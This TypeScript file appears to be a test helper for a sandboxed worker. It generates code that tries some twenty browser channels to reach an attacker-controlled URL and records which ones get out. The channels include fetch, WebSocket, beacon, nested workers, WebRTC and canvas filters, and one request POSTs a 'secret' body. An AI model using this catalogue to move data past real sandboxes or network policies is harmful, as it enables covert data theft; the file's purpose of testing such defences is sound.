/** What tries each way to the network that a worker has, to the attacker's URL. */
const waysTo = (to: string): ReadonlyMap<string, string> =>
  new Map([
    ['fetch', `() => fetch.call(self, '${to}/fetch')`],
    [
      'fetch without CORS',
      `() => fetch.call(self, '${to}/opaque', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
    ],
    ['fetch kept alive', `() => fetch.call(self, '${to}/keepalive', { keepalive: true })`],
    [
      'xhr',
      `() => { const request = new XMLHttpRequest(); request.open('GET', '${to}/xhr', false); request.send(); }`,
    ],
    [
      'socket',
      `() => settled(new WebSocket('${to.replace('http', 'ws')}/socket'), 'error', 'close')`,
    ],
    [
      'events',
      `() => { const source = new EventSource('${to}/events'); return settled(source, 'error').finally(() => source.close()); }`,
    ],
    ['import', `() => (0, eval)("import('${to}/import')")`],
    ['importScripts', `() => importScripts.call(self, '${to}/importScripts')`],
    ['font', `() => new FontFace('x', 'url(${to}/font)').load()`],
    ['worker', `() => inWorker('${to}/worker')`],
    ['nested data worker', `() => inWorker(asData(sendsFrom('nestedData')))`],
    ['nested blob worker', `() => inWorker(asBlob(sendsFrom('nestedBlob')))`],
    [
      'script of a nested worker',
      `() => inWorker(asData("importScripts('${to}/nestedScript'); postMessage(1)"))`,
    ],
    ['wasm', `() => WebAssembly.compileStreaming(fetch.call(self, '${to}/wasm'))`],
    ['cache', `async () => (await caches.open('x')).add('${to}/cache')`],
    ['transport', `() => new WebTransport('${to.replace('http:', 'https:')}/transport').ready`],
    ['beacon', `() => navigator.sendBeacon('${to}/beacon')`],
    [
      'peer',
      `() => new RTCPeerConnection({ iceServers: [{ urls: '${to.replace('http://', 'stun:')}' }] })`,
    ],
    [
      'canvas filter',
      `() => {
  const context = new OffscreenCanvas(4, 4).getContext('2d');
  context.filter = 'url(${to}/filter#f)';
  context.fillRect(0, 0, 4, 4);
}`,
    ],
    ['navigation', `() => { location.href = '${to}/navigation'; }`],
    ['window', `() => self.clients.openWindow('${to}/window')`],
  ]);

/** The ways' names. */
export const WAYS: readonly string[] = [...waysTo('').keys()];

/**
 * A cell that tries ways to the network, each waited for until it has failed or gone; its value tells a line a way.
 * With `bare` at hand it goes round what hides the ways.
 *
 * @param to the attacker's URL, without a slash at the end
 * @param names of the ways; all of them unless told
 */
export function waysOut(to: string, names = WAYS): string {
  const ways = waysTo(to);
  return `await (async () => {
const { ${HIDDEN.join(', ')} } = self.bare ?? self;
const tried = [];
const settled = (target, ...events) => new Promise((resolve, reject) => {
  for (const event of events) target.addEventListener(event, () => event === 'message' ? resolve() : reject(new Error(event)));
});
const attempt = async (name, go) => {
  const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
  try { tried.push(name + ': ' + (await Promise.race([go(), late]) === 'no answer' ? 'no answer' : 'went')); }
  catch (error) { tried.push(name + ': ' + error.message); }
};
const inWorker = (url) => { const made = new Worker(url); return settled(made, 'message', 'error').finally(() => made.terminate()); };
const asData = (code) => 'data:text/javascript,' + encodeURIComponent(code);
const asBlob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const sendsFrom = (name) => "fetch('${to}/" + name + "').then(() => postMessage(1), () => { throw new Error('refused') });";
${names.map((name) => `await attempt('${name}', ${ways.get(name)});`).join('\n')}
return tried.join('\\n');
})()`;
}

const HIDDEN = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker'];

/** What the attacker sees of `waysOut` where nothing holds it back, in every browser. */
export const SEEN_WITHOUT_POLICY = [
  '/fetch',
  '/opaque',
  '/keepalive',
  '/xhr',
  '/socket',
  '/events',
  '/import',
  '/importScripts',
  '/font',
  '/nestedData',
  '/nestedBlob',
  '/nestedScript',
  '/wasm',
];

/** Ways that give no answer of their own when nothing went out. */
export const MUTE = /^canvas filter: went$/m;
